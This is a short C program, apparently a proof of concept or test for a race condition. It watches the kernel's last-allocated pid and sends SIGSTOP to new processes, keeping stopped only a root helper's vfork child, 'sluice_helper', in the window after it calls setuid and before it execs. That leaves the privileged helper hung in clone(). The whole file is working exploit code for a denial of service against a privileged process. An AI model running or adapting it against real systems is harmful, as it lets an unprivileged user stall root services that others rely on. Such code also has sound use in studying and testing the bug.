/* Sends SIGSTOP, for argv[1] seconds, to the most recently allocated pids: a child the
   root helper cloned (CLONE_VM|CLONE_VFORK) becomes signalable by this user the moment it
   calls setuid(user), and stays in the helper's vfork wait until it execs. Stopped there,
   the helper program never returns from clone(). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
  time_t end = time(NULL) + atoi(argv[1]);
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
  pid_t me = getpid(), parent = getppid();
  char buf[32];
  long hits = 0;
  printf("started\n");
  fflush(stdout);
  while (time(NULL) < end) {
    for (int k = 0; k < 1000; k++) {
      ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
      buf[n > 0 ? n : 0] = 0;
      int last = atoi(buf);
      for (int p = last - 1; p <= last + 1; p++)
        if (p > 1 && p != me && p != parent && kill(p, SIGSTOP) == 0) {
          /* Only the helper's pre-exec clone still has its name: let the others go. */
          char path[64], comm[32] = {0};
          snprintf(path, sizeof path, "/proc/%d/comm", p);
          int c = open(path, O_RDONLY);
          if (c >= 0) { if (read(c, comm, sizeof comm - 1) < 0) comm[0] = 0; close(c); }
          if (strcmp(comm, "sluice_helper\n") == 0) hits++;
          else kill(p, SIGCONT);
        }
    }
  }
  printf("hits %ld\n", hits);
  return 0;
}
